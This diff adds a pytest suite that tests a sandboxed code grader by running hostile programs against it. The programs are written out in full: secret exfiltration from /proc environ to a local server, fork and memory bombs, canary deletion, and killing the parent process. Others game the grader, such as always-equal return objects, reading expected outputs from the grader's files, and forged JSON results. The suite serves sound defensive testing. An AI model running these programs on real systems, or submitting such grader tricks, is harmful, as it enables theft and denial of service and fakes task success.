@@ -1,0 +1,333 @@
+"""Hostile programs against the grader (issue 3, item 5).
+
+Every attack is graded as an answer to a problem whose expected output is a random
+token it cannot compute, so passing would prove a leak; each must fail while the host
+stays untouched. All attacks run together, in parallel, as in real grading; the last
+tests check the host afterwards: no process left, canaries intact, the secret found
+nowhere, the grader still healthy. Requires the full isolation level (bubblewrap).
+"""
+
+import json
+import os
+import secrets
+import shutil
+import socket
+import stat
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from pathlib import Path
+
+import psutil
+import pytest
+
+from p3 import storage
+from p3.sandbox import Job, Limits, Sandbox, sandbox_python
+from p3.verify import apps as vapps
+
+if not shutil.which("bwrap"):
+    pytest.skip("bubblewrap not installed (apt-get install bubblewrap): the adversarial suite needs full isolation",
+                allow_module_level=True)
+
+TOKEN = "P3TOK" + secrets.token_hex(16)  # the expected output: unguessable
+SECRET = "P3SECRET" + secrets.token_hex(16)  # in the grader's environment
+ANSWER_INT = secrets.randbelow(10**15) + 10**15  # expected call-based return value
+TIMEOUT = 1.5
+WORKERS = 2
+
+
+class Server:
+    """A loopback TCP server the programs try to reach."""
+
+    def __init__(self):
+        self.sock = socket.socket()
+        self.sock.bind(("127.0.0.1", 0))
+        self.sock.listen(64)
+        self.port = self.sock.getsockname()[1]
+        self.connections = 0
+        self.received = b""
+        threading.Thread(target=self._serve, daemon=True).start()
+
+    def _serve(self):
+        while True:
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                return
+            self.connections += 1
+            conn.settimeout(1)
+            try:
+                while data := conn.recv(65536):
+                    self.received += data
+            except OSError:
+                pass
+            conn.close()
+
+
+def attacks(canary: str, port: int, grader_pid: int) -> dict:
+    """name -> (code, call_based, allowed run statuses); no attack may pass its test."""
+    canary_dir = os.path.dirname(canary)
+    exfiltrate = f"""
+import os, socket, glob
+found = [os.environ.get(k, '') for k in os.environ]
+for path in ['/proc/1/environ', '/proc/self/environ', '/proc/%d/environ' % os.getppid(), '/proc/{grader_pid}/environ'] + glob.glob('/proc/*/environ'):
+    try:
+        found.append(open(path, 'rb').read().decode('latin-1'))
+    except OSError:
+        pass
+blob = '\\n'.join(found)
+for path in ['leak', '/tmp/p3-leak', '/dev/shm/leak', '/var/tmp/p3-leak', {canary_dir!r} + '/leak', '/code/leak']:
+    try:
+        open(path, 'w').write(blob)
+    except OSError:
+        pass
+try:
+    socket.create_connection(('127.0.0.1', {port}), timeout=0.5).sendall(blob.encode())
+except OSError:
+    pass
+print(blob)
+"""
+    read_expected = f"""
+import os, re, glob, sys
+pat = re.compile(rb'P3TOK[0-9a-f]{{32}}')
+def found(data):
+    m = pat.search(data)
+    if m:
+        print(m.group().decode())
+        sys.exit(0)
+paths = []
+for f in ['/proc/%d/cmdline' % os.getppid(), '/proc/{grader_pid}/cmdline'] + glob.glob('/proc/*/cmdline'):
+    try:
+        args = open(f, 'rb').read().split(b'\\0')
+    except OSError:
+        continue
+    for arg in args:
+        found(arg)
+        if arg.startswith(b'/'):
+            paths += [arg.decode(), os.path.dirname(arg.decode())]
+for p in paths + ['/tmp']:
+    for root, dirs, files in ([(os.path.dirname(p), [], [os.path.basename(p)])] if os.path.isfile(p) else os.walk(p)):
+        for name in files[:200]:
+            try:
+                found(open(os.path.join(root, name), 'rb').read(1 << 22))
+            except OSError:
+                pass
+print('nothing')
+"""
+    return {
+        "infinite_loop": ("while True:\n    pass\n", False, {"timeout"}),
+        "sleep": ("import time\ntime.sleep(60)\n", False, {"timeout"}),
+        "blocking_read": ("import os\nr, w = os.pipe()\nos.read(r, 1)\n", False, {"timeout"}),
+        "fork_bomb": ("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass\n", False,
+                      {"timeout"}),
+        "multiprocessing_bomb": (
+            "import multiprocessing as mp\ndef spin():\n    while True:\n        pass\n"
+            "if __name__ == '__main__':\n    ps = []\n    for _ in range(1000):\n        try:\n"
+            "            p = mp.Process(target=spin)\n            p.start()\n            ps.append(p)\n"
+            "        except OSError:\n            pass\n    for p in ps:\n        p.join()\n",
+            False, {"timeout", "runtime_error"}),
+        "memory_bomb": ("a = []\nwhile True:\n    a.append(bytearray(10**7))\n", False, {"memory_limit", "timeout"}),
+        "ten_gb_file": (
+            "b = b'x' * (1 << 20)\nfor path in ('/tmp/big', '/dev/shm/big', 'big'):\n    try:\n"
+            "        with open(path, 'wb') as f:\n            for _ in range(10240):\n                f.write(b)\n"
+            "    except OSError:\n        pass\nwith open('big2', 'wb') as f:\n    for _ in range(10240):\n        f.write(b)\n",
+            False, {"output_limit"}),
+        "endless_output": ("while True:\n    print('x' * 1000)\n", False, {"output_limit"}),
+        "endless_stderr": ("import sys\nwhile True:\n    sys.stderr.write('y' * 1000)\n", False, {"output_limit"}),
+        "delete_canary": (
+            f"import os, shutil\nfor f in (lambda: os.remove({canary!r}), lambda: shutil.rmtree({canary_dir!r}),\n"
+            f"          lambda: open({canary!r}, 'w').write('pwned'), lambda: os.chmod({canary!r}, 0)):\n"
+            "    try:\n        f()\n    except OSError:\n        pass\nprint('done')\n",
+            False, {"ok"}),
+        "steal_secret": (exfiltrate, False, {"ok"}),
+        "loopback_socket": (
+            f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=1)\ns.sendall(b'hello')\n",
+            False, {"runtime_error"}),
+        "kill_parent": (
+            f"import os, signal\nfor pid in (os.getppid(), {grader_pid}, 1):\n    try:\n        os.kill(pid, 9)\n"
+            "    except OSError:\n        pass\ntry:\n    os.kill(-1, 9)\nexcept OSError:\n    pass\nos.killpg(0, 9)\n",
+            False, {"runtime_error", "timeout", "ok"}),
+        "sys_exit_before_print": ("import sys\nsys.exit(0)\nprint('x')\n", False, {"ok"}),
+        "os_exit_before_print": ("import os\nos._exit(0)\n", False, {"ok"}),
+        "read_expected_outputs": (read_expected, False, {"ok"}),
+        "ignore_signals_patch_builtins": (
+            "import signal, builtins\nfor s in (signal.SIGALRM, signal.SIGTERM, signal.SIGXCPU, signal.SIGINT, signal.SIGHUP):\n"
+            "    signal.signal(s, signal.SIG_IGN)\nsignal.alarm(0)\nbuiltins.print = lambda *a, **k: None\n"
+            "builtins.open = None\nwhile True:\n    pass\n",
+            False, {"timeout"}),
+        "ctypes_segfault": ("import ctypes\nctypes.string_at(0)\n", False, {"runtime_error"}),
+        "libc_fork": ("import ctypes\nlibc = ctypes.CDLL(None)\nwhile True:\n    libc.fork()\n", False, {"timeout"}),
+        "posix_fork": ("import posix\nwhile True:\n    try:\n        posix.fork()\n    except OSError:\n        pass\n",
+                       False, {"timeout"}),
+        "setsid_double_fork": (
+            f"import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        time.sleep(30)\n"
+            f"        open({canary!r}, 'w').write('late')\n    os._exit(0)\nprint('parent done')\n",
+            False, {"ok"}),
+        "spinning_thread": (
+            "import threading\ndef spin():\n    while True:\n        pass\nthreading.Thread(target=spin).start()\nprint('x')\n",
+            False, {"timeout"}),
+        "million_open_files": ("fs = []\nfor _ in range(10**6):\n    fs.append(open('/dev/null'))\n", False, {"runtime_error"}),
+        "deep_recursion": ("import sys\nsys.setrecursionlimit(10**9)\ndef f(n):\n    return f(n + 1) + 1\nf(0)\n", False,
+                           {"runtime_error", "memory_limit", "timeout"}),
+        # call-based: answers are compared in the parent, from JSON
+        "always_equal_object": (
+            "class Eq:\n    def __eq__(self, other):\n        return True\n    def __ne__(self, other):\n        return False\n"
+            "    __hash__ = object.__hash__\ndef solve(x):\n    return Eq()\n",
+            True, {"runtime_error"}),
+        "always_equal_list": (
+            "class L(list):\n    def __eq__(self, other):\n        return True\ndef solve(x):\n    return L()\n",
+            True, {"ok"}),  # runs fine; its answer, [], is wrong
+        "forged_result_and_patched_json": (
+            "import os, json, builtins\nfor fd in range(3, 20):\n    try:\n        os.write(fd, b'[1]')\n    except OSError:\n        pass\n"
+            "json.dumps = lambda *a, **k: '\"forged\"'\nbuiltins.isinstance = lambda *a: True\n"
+            "def solve(x):\n    return x\n",
+            True, {"ok", "runtime_error"}),
+    }
+
+
+@pytest.fixture(scope="module")
+def host():
+    """Canary files, a secret in the grader's environment, a loopback server."""
+    canary_dir = tempfile.mkdtemp(prefix="p3-canary-")
+    os.chmod(canary_dir, 0o777)  # only isolation, not permissions, may protect it
+    canary = os.path.join(canary_dir, "canary.txt")
+    Path(canary).write_text("canary\n")
+    os.chmod(canary, 0o666)
+    old = os.environ.get("P3_GRADER_SECRET")
+    os.environ["P3_GRADER_SECRET"] = SECRET
+    server = Server()
+    yield {"canary": canary, "server": server}
+    server.sock.close()
+    if old is None:
+        os.environ.pop("P3_GRADER_SECRET", None)
+    shutil.rmtree(canary_dir, ignore_errors=True)
+
+
+@pytest.fixture(scope="module")
+def sandbox(host):
+    sb = Sandbox(workers=WORKERS, limits=Limits(timeout=TIMEOUT), require_isolation=True)
+    assert sb.level == "bwrap"
+    return sb
+
+
+@pytest.fixture(scope="module")
+def suite(host, sandbox):
+    """Run every attack once, in parallel; name -> (RunResult, test status)."""
+    table = attacks(host["canary"], host["server"].port, os.getpid())
+    jobs = []
+    for code, call_based, _ in table.values():
+        jobs.append(Job(code, fn_name="solve", args=[7]) if call_based else Job(code, stdin="1 2\n"))
+    start = time.monotonic()
+    results = sandbox.run_many(jobs)
+    took = time.monotonic() - start
+    out = {}
+    for (name, (code, call_based, allowed)), res in zip(table.items(), results):
+        expected = [ANSWER_INT] if call_based else TOKEN + "\n"
+        out[name] = (res, vapps.test_status(res, expected, call_based), allowed)
+    out["_took"] = took
+    return out
+
+
+ATTACKS = list(attacks("/x/c", 1, 1))
+
+
+@pytest.mark.parametrize("name", ATTACKS)
+def test_attack_fails(suite, name):
+    res, status, allowed = suite[name]
+    assert status != "ok", f"{name} passed: {res}"
+    assert res.status in allowed, f"{name}: run status {res.status}, expected one of {allowed}: {res.stderr[-500:]}"
+    assert TOKEN not in res.stdout
+
+
+def test_nothing_leaked_into_the_sandbox(suite):
+    for name in ATTACKS:
+        res = suite[name][0]
+        assert SECRET not in res.stdout and SECRET not in res.stderr, name
+    assert suite["read_expected_outputs"][0].stdout.strip() == "nothing"
+
+
+def test_suite_wall_time_is_bounded(suite):
+    # every run ends at its limit: n attacks × timeout / workers, plus start-up slack
+    assert suite["_took"] < len(ATTACKS) * (TIMEOUT + 1.0) / WORKERS + 10
+
+
+def _sandbox_processes(sb: Sandbox) -> list:
+    uids = set(range(sb.uid_base, sb.uid_base + sb.workers)) if os.geteuid() == 0 else set()
+    me = psutil.Process()
+    left = []
+    for p in psutil.process_iter(["uids", "name", "cmdline"]):
+        try:
+            if p.info["uids"].real in uids or (p.pid != me.pid and p.ppid() == me.pid and
+                                                 "p3.verify.math" not in " ".join(p.info["cmdline"] or [])):
+                left.append(p)
+        except (psutil.NoSuchProcess, psutil.AccessDenied):
+            pass
+    return left
+
+
+def test_zz_host_untouched_after_the_suite(suite, host, sandbox):
+    # no process left (not even a zombie): give the kernel a moment to tear namespaces down
+    deadline = time.monotonic() + 3
+    while _sandbox_processes(sandbox) and time.monotonic() < deadline:
+        time.sleep(0.1)
+    assert _sandbox_processes(sandbox) == []
+    # canaries intact
+    canary = host["canary"]
+    assert Path(canary).read_text() == "canary\n"
+    assert stat.S_IMODE(os.stat(canary).st_mode) == 0o666
+    assert os.listdir(os.path.dirname(canary)) == ["canary.txt"]
+    # the secret went nowhere: not over the network, not into any file we can find
+    server = host["server"]
+    assert server.connections == 0 and server.received == b""
+    for root in ("/tmp", "/dev/shm", "/var/tmp"):
+        for dirpath, _, files in os.walk(root):
+            for f in files:
+                path = os.path.join(dirpath, f)
+                try:
+                    if os.path.getsize(path) < (8 << 20):
+                        assert SECRET.encode() not in Path(path).read_bytes(), path
+                except OSError:
+                    pass
+    assert not os.path.exists("/tmp/big") and not os.path.exists("/tmp/p3-leak")
+    # the grader is still healthy
+    ok = vapps.grade_program(sandbox, "print(int(input()) + 1)", json.dumps({"inputs": ["1\n"], "outputs": ["2\n"]}))
+    assert ok["passed"] is True
+
+
+def test_reading_graders_files_works_without_isolation_and_not_with_it(tmp_path):
+    """The /proc/<ppid>/cmdline attack against `p3 grade` itself: it finds the expected
+    output in the grader's files when isolation is off (so the attack is real), and
+    nothing with bwrap."""
+    work = Path(tempfile.mkdtemp(prefix="p3-grader-files-"))
+    try:
+        os.chmod(work, 0o755)  # a typical world-readable output folder
+        tests = json.dumps({"inputs": ["1 2\n"], "outputs": [TOKEN + "\n"]})
+        import pyarrow as pa
+
+        problems = pa.table({"id": ["apps-1"], "task": ["apps"], "prompt": ["p"], "solution": [""],
+                             "answer": pa.array([None], pa.string()), "tests": [tests],
+                             "starter_code": pa.array([None], pa.string()), "meta": ["{}"]})
+        storage.write_table(problems, work / "problems.parquet")
+        code = attacks("/nonexistent/c", 1, 1)["read_expected_outputs"][0]
+        (work / "c.jsonl").write_text(json.dumps({"id": "apps-1", "sample": 0, "completion": code}) + "\n")
+        for f in work.iterdir():
+            os.chmod(f, 0o644)
+        passed = {}
+        for level in ("none", "bwrap"):
+            out = work / f"results-{level}.parquet"
+            proc = subprocess.run([sys.executable, "-m", "p3.cli", "grade", "--problems", str(work / "problems.parquet"),
+                                   "--completions", str(work / "c.jsonl"), "--out", str(out), "--isolation", level,
+                                   "--timeout", "5", "--workers", "1"],
+                                  capture_output=True, text=True, timeout=120,
+                                  env={**os.environ, "P3_SANDBOX_PYTHON": sandbox_python()})
+            assert proc.returncode == 0, proc.stderr
+            if level == "none":
+                assert "SANDBOX ISOLATION IS WEAK" in proc.stderr  # said loudly
+            passed[level] = storage.read_table(out).column("passed").to_pylist()[0]
+        if os.geteuid() == 0 or os.access(work / "problems.parquet", os.R_OK):
+            assert passed["none"] is True, "the attack should work without isolation (else this test proves nothing)"
+        assert passed["bwrap"] is False
+    finally:
+        shutil.rmtree(work, ignore_errors=True)
